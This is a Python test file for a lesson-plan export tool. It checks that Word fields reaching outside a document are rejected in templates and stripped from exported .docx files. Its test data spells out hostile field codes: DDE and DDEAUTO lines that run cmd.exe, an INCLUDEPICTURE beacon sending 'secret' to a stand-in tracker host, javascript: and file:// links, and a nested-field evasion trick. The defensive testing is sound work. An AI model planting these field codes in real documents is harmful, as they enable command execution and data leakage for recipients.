"""Word fields that reach outside the document (INCLUDETEXT, INCLUDEPICTURE, LINK, DDE, a HYPERLINK that is
not http(s)) are refused in a school template and stripped from every exported .docx."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest
from docx.opc.constants import CONTENT_TYPE, RELATIONSHIP_TYPE
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from sample_plans import sample_plan, sample_unit, school_template

from lesson_studio.export import (
    Cover,
    build_docx,
    check_template,
    docx_builder,
    fill_template,
    outside_fields,
    plan_to_docx_bytes,
    plans_to_zip,
    strip_outside_fields,
    unit_to_docx_bytes,
)
from lesson_studio.export.typography import add_field

COVER = Cover(teacher="王老师")
OUTSIDE = [
    r'INCLUDETEXT "\\\\fileserver\\share\\x.docx"',
    r'INCLUDE "\\\\fileserver\\share\\x.docx"',
    'INCLUDEPICTURE "http://tracker.example/p.png?q=secret" \\d',
    'IMPORT "http://tracker.example/p.png"',
    r'LINK Excel.Sheet.8 "C:\\data\\x.xls" "Sheet1!R1C1" \a',
    r'DDE c:\\windows\\system32\\cmd.exe "/c calc.exe"',
    r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
    'HYPERLINK "javascript:alert(1)"',
    r'HYPERLINK "file:///C:/Windows/win.ini"',
    r'hyperlink \o "tip" "\\\\fileserver\\share"',
    'includetext "http://tracker.example/x.docx"',
]
HARMLESS = ["PAGE", "NUMPAGES", "PAGEREF _LessonPlan1 \\h", 'HYPERLINK "https://moe.gov.cn/"', 'HYPERLINK \\l "第二课"']
FOOTNOTES_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    '<w:footnote w:id="1"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText>{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>域结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:footnote></w:footnotes>'
)


def add_simple_field(paragraph, code: str, shown: str = "域结果") -> None:
    field = OxmlElement("w:fldSimple")
    field.set(qn("w:instr"), code)
    add_runs(field, [shown])
    paragraph._p.append(field)


def add_runs(parent, pieces: list[str]) -> None:
    """One run per piece: a field character ("begin", "separate", "end"), a field code ("code:…") or text."""
    for piece in pieces:
        run = OxmlElement("w:r")
        if piece in ("begin", "separate", "end"):
            child = OxmlElement("w:fldChar")
            child.set(qn("w:fldCharType"), piece)
        else:
            child = OxmlElement("w:instrText" if piece.startswith("code:") else "w:t")
            child.text = piece.removeprefix("code:")
        run.append(child)
        getattr(parent, "_p", parent).append(run)


def with_field(template: bytes, code: str, *, where: str = "body", simple: bool = False) -> bytes:
    """The template with one field (complex, or w:fldSimple) in its body, header, footer or footnotes."""
    document = docx.Document(io.BytesIO(template))
    if where == "footnotes":
        xml = FOOTNOTES_XML.format(code=code.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;"))
        part = Part(PackURI("/word/footnotes.xml"), CONTENT_TYPE.WML_FOOTNOTES, xml.encode(), document.part.package)
        document.part.relate_to(part, RELATIONSHIP_TYPE.FOOTNOTES)
    else:
        section = document.sections[0]
        story = {"body": document, "header": section.header, "footer": section.footer}[where]
        paragraph = story.add_paragraph()
        if simple:
            add_simple_field(paragraph, code)
        else:
            add_runs(paragraph, ["begin", f"code:{code}", "separate", "域结果", "end"])
    return saved(document)


def saved(document) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def field_codes(data: bytes) -> str:
    """Every field code in every part of a .docx, joined."""
    codes = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                root = docx.oxml.parse_xml(archive.read(name))
                codes += [element.text or "" for element in root.iter(qn("w:instrText"))]
                codes += [element.get(qn("w:instr")) for element in root.iter(qn("w:fldSimple"))]
    return "\n".join(codes)


def body_text(data: bytes) -> str:
    return "\n".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs)


# --- Refused in a template -----------------------------------------------------------------------


@pytest.mark.parametrize("code", OUTSIDE)
def test_a_field_that_reaches_outside_is_refused_in_a_template(code):
    errors = check_template(with_field(school_template(), code)).errors
    assert len(errors) == 1 and "正文中有不允许的域代码" in errors[0] and code.split()[0] in errors[0]


@pytest.mark.parametrize(
    ("where", "simple", "label"),
    [
        ("body", True, "正文"),
        ("header", False, "页眉"),
        ("header", True, "页眉"),
        ("footer", False, "页脚"),
        ("footnotes", False, "脚注"),
    ],
)
def test_fields_are_found_in_every_part_and_either_form(where, simple, label):
    template = with_field(school_template(), OUTSIDE[0], where=where, simple=simple)
    errors = check_template(template).errors
    assert len(errors) == 1 and f"{label}中有不允许的域代码“INCLUDETEXT" in errors[0]


def test_a_hyperlink_field_is_told_only_web_links_are_allowed():
    error = check_template(with_field(school_template(), 'HYPERLINK "javascript:alert(1)"')).errors[0]
    assert "只允许 http(s) 网页链接" in error and "Alt+F9" in error


@pytest.mark.parametrize("code", HARMLESS)
def test_page_numbers_and_web_links_are_fine_in_a_template(code):
    assert check_template(with_field(school_template(), code, where="footer")).ok


# --- Stripped from every export ------------------------------------------------------------------


@pytest.mark.parametrize("code", OUTSIDE)
def test_a_field_that_reaches_outside_is_stripped_from_a_filled_template(code):
    # A template stored before the check refused the field: the export drops it and keeps its text.
    filled = fill_template(with_field(school_template(), code), sample_plan(), COVER)
    assert code not in field_codes(filled)
    assert "域结果" in body_text(filled)


@pytest.mark.parametrize("simple", [False, True])
@pytest.mark.parametrize("code", HARMLESS)
def test_harmless_fields_are_kept(code, simple):
    data = with_field(saved(docx.Document()), code, simple=simple)
    assert strip_outside_fields(data) == data


def test_a_simple_field_is_stripped_down_to_its_shown_text():
    stripped = strip_outside_fields(with_field(saved(docx.Document()), OUTSIDE[2], simple=True))
    assert field_codes(stripped) == "" and body_text(stripped).strip() == "域结果"


def test_a_field_whose_name_is_made_by_a_field_inside_it_is_stripped():
    # { { QUOTE "INCLUDE" }TEXT "\\fileserver\x.docx" }: Word reads the outer field as INCLUDETEXT.
    document = docx.Document()
    outer_code = r'TEXT "\\fileserver\x.docx"'
    inner = ["begin", 'code:QUOTE "INCLUDE"', "separate", "INCLUDE", "end"]
    add_runs(document.add_paragraph(), ["begin", *inner, f"code:{outer_code}", "separate", "域结果", "end"])
    data = saved(document)
    assert [code for *_where, code in outside_fields(data)] == [outer_code]
    assert field_codes(strip_outside_fields(data)) == 'QUOTE "INCLUDE"'


def test_a_field_code_made_by_a_placeholder_is_stripped_when_filled():
    """A placeholder inside a field passes the check; what the plan writes there is checked after filling."""
    template = with_field(school_template(), " {{ 活动名称 }} ")
    assert check_template(template).ok
    plan = sample_plan().model_copy(update={"title": r'INCLUDETEXT "\\\\fileserver\\share\\x.docx"'})
    assert "INCLUDETEXT" not in field_codes(fill_template(template, plan, COVER))


@pytest.fixture
def outside_footer(monkeypatch):
    """The built-in layout's footer with an INCLUDETEXT field instead of its PAGE field."""

    def footer(section):
        add_field(section.footer.paragraphs[0], r'INCLUDETEXT "\\\\fileserver\\x.docx"', shown="第1页")

    monkeypatch.setattr(docx_builder, "set_page_number_footer", footer)


def test_the_built_in_layout_goes_through_the_same_last_pass(outside_footer, tmp_path):
    exports = {
        "plan": plan_to_docx_bytes(sample_plan(), COVER),
        "unit": unit_to_docx_bytes(sample_unit(2), title="主题单元", cover=COVER),
        "file": build_docx(sample_plan(), tmp_path / "教案.docx", COVER).read_bytes(),
        "zip": first_file(plans_to_zip(sample_unit(2), COVER)),
    }
    for name, data in exports.items():
        assert "INCLUDETEXT" not in field_codes(data), name
        assert docx.Document(io.BytesIO(data)).sections[0].footer.paragraphs[0].text == "第1页", name


def test_every_plan_in_a_zip_is_stripped():
    template = with_field(school_template(), " {{ 活动名称 }} ")
    plans = [
        plan.model_copy(update={"title": f'INCLUDETEXT "\\\\fileserver\\{number}.docx"'})
        for number, plan in enumerate(sample_unit(2))
    ]
    archive = zipfile.ZipFile(io.BytesIO(plans_to_zip(plans, COVER, template=template)))
    assert len(archive.namelist()) == 2
    assert all("INCLUDETEXT" not in field_codes(archive.read(name)) for name in archive.namelist())


def first_file(archive: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        return opened.read(opened.namelist()[0])
